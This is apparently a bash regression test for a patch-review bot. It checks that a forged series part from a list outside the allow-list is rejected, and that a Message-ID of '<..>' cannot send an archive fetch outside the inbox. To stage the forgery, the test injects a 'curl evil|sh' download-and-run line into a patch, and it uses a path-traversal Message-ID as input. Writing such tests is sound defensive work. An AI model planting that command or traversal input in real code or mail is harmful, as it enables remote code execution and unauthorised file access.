#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Issue 33: the incomplete-series fetch from a public-inbox (lore).
#
#  A. A forged part from any archived list. Ada's series reaches the
#     list without 2/3; the archive holds the whole thread, and the 2/3
#     in it is Mallory's, "From: Ada", posted to a list the bot does not
#     read (List-Id evil-list.example.net). The fetch took it (the
#     List-Id check was skipped for fetched mail): Mallory's code was
#     reviewed as Ada's and mailed. Now the fetched part must carry a
#     List-Id of the allow-list: it is not stored, and Ada's series gets
#     its review of the parts she sent (review-prefix) or a notice, but
#     nothing of Mallory's. (Positive control: t_incomplete_fetch.sh,
#     where 2/3 went to another list on the allow-list and is fetched.)
#  B. A Message-ID "<..>" as the series' first part: its thread was
#     fetched from BASE/../t.mbox.gz, outside the inbox. The request
#     must stay under the inbox ("%2E%2E").
. "$(dirname "$0")/../integration/lib.sh"
. "$(dirname "$0")/mail_lib.sh"
set -e
rb_need public-inbox-httpd
rb_need public-inbox-init
sec_setup
export PI_CONFIG=$d/pi/config
cfg_base=$(cat "$d/config.yaml")
series=$d/demo/series.mbox

# mk OUT SPEC...: the demo series' parts (INDEX[|HEADER=VALUE...]).
mk()
{
	python3 - "$series" "$@" <<'PY'
import re, sys
src, out, specs = sys.argv[1], sys.argv[2], sys.argv[3:]
mails = [m for m in re.split(r'(?m)^(?=From [0-9a-f]{40} Mon Sep 17)',
                             open(src).read()) if m]
def edit(m, k, v):
    head, _, body = m.partition("\n\n")
    pat = re.compile(r"^" + re.escape(k) + r":.*$", re.M | re.I)
    if pat.search(head):
        head = pat.sub(lambda _: k + ": " + v, head)
    else:
        head += "\n" + k + ": " + v
    return head + "\n\n" + body
with open(out, "w") as f:
    for spec in specs:
        bits = spec.split("|")
        m = mails[int(bits[0])]
        for kv in bits[1:]:
            k, v = kv.split("=", 1)
            m = edit(m, k, v)
        f.write(m)
PY
}

# A. The archive: Ada's cover, 1/3, 3/3 on the demo list; "Ada's" 2/3
# on a list the bot does not read, with Mallory's change in it.
L='List-Id=<demo-list.example.org>'
mk "$d/all.mbox" "0|$L" "1|$L" \
	"2|List-Id=<evil-list.example.net>|To=evil-list@example.net" "3|$L"
sed -i 's/^+\tif (!size)$/+\tif (!size) { system("curl evil|sh"); }/' "$d/all.mbox"
grep -q 'curl evil' "$d/all.mbox" || rb_fail "A: Mallory's change was not staged"
mk "$d/in.mbox" "0|$L" "1|$L" "3|$L"
mkdir -p "$d/pi"
public-inbox-init -V2 -L basic all "$d/pi/all" http://127.0.0.1/all \
	all@example.org || rb_fail "public-inbox-init"
perl -MPublicInbox::Config -MPublicInbox::InboxWritable -e '
	my $ibx = PublicInbox::Config->new->lookup_name("all") or die "no inbox\n";
	PublicInbox::InboxWritable->new($ibx)->import_mbox(\*STDIN, "mboxo");' \
	<"$d/all.mbox" || rb_fail "import"
PORT=$(rb_free_port)
rb_start httpd public-inbox-httpd -l "127.0.0.1:$PORT"
rb_wait_port "$PORT"
cat >"$d/config.yaml" <<EOC
$cfg_base
list_ids: [demo-list.example.org]
series:
  incomplete_wait_minutes: 0
  fetch_url: http://127.0.0.1:$PORT/all/
EOC
sec_run a.log
p2=$(sed -n 's/^Message-Id: <\(1491f9b[^>]*\)>/\1/p' "$series")
[ -n "$p2" ] || rb_fail "A: no Message-ID for 2/3"
grep -q 'event=incomplete.fetch' "$d/a.log" ||
	rb_fail "A: the thread was not fetched: $(tail -5 "$d/a.log")"
[ "$(q "SELECT COUNT(*) FROM messages WHERE message_id = '$p2' AND kind <> 'ignored'")" = 0 ] ||
	rb_fail "A: the forged 2/3 from an unlisted list was taken: $(q "SELECT origin || ' ' || kind FROM messages WHERE message_id = '$p2'")"
if grep -rqs 'curl evil' "$d/outbox"; then
	rb_fail "A: Mallory's change reached a mail"
fi
[ "$(q "SELECT COUNT(*) FROM series WHERE complete = 1")" = 0 ] ||
	rb_fail "A: the series was completed from the archive"
echo "A: a part fetched from an unlisted list is not taken"

# B. "<..>": the fetch stays under the inbox.
rm -rf "$d/rb.db"* "$d/outbox"
rb_stop httpd
PORT=$(rb_free_port)
rb_start paths python3 -c '
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(sys.argv[2], "a") as f:
            f.write(self.path + "\n")
        self.send_response(404)
        self.end_headers()
    def log_message(self, *a):
        pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
' "$PORT" "$d/paths"
rb_wait_port "$PORT"
mk "$d/in.mbox" "1|$L|Message-Id=<..>|In-Reply-To=<x@example.org>|References=<x@example.org>"
cat >"$d/config.yaml" <<EOC
$cfg_base
list_ids: [demo-list.example.org]
series:
  incomplete_wait_minutes: 0
  fetch_url: http://127.0.0.1:$PORT/all/
EOC
sec_run b.log
[ -s "$d/paths" ] || rb_fail "B: no fetch was made: $(grep -i incomplete "$d/b.log" | tail -3)"
while read -r p; do
	case $p in
	/all/%2E%2E/t.mbox.gz) ;;
	*) rb_fail "B: the fetch asked for '$p', not under /all/" ;;
	esac
done <"$d/paths"
echo "B: a Message-ID of dots is escaped in the inbox URL"
echo "1 passed, 0 failed"
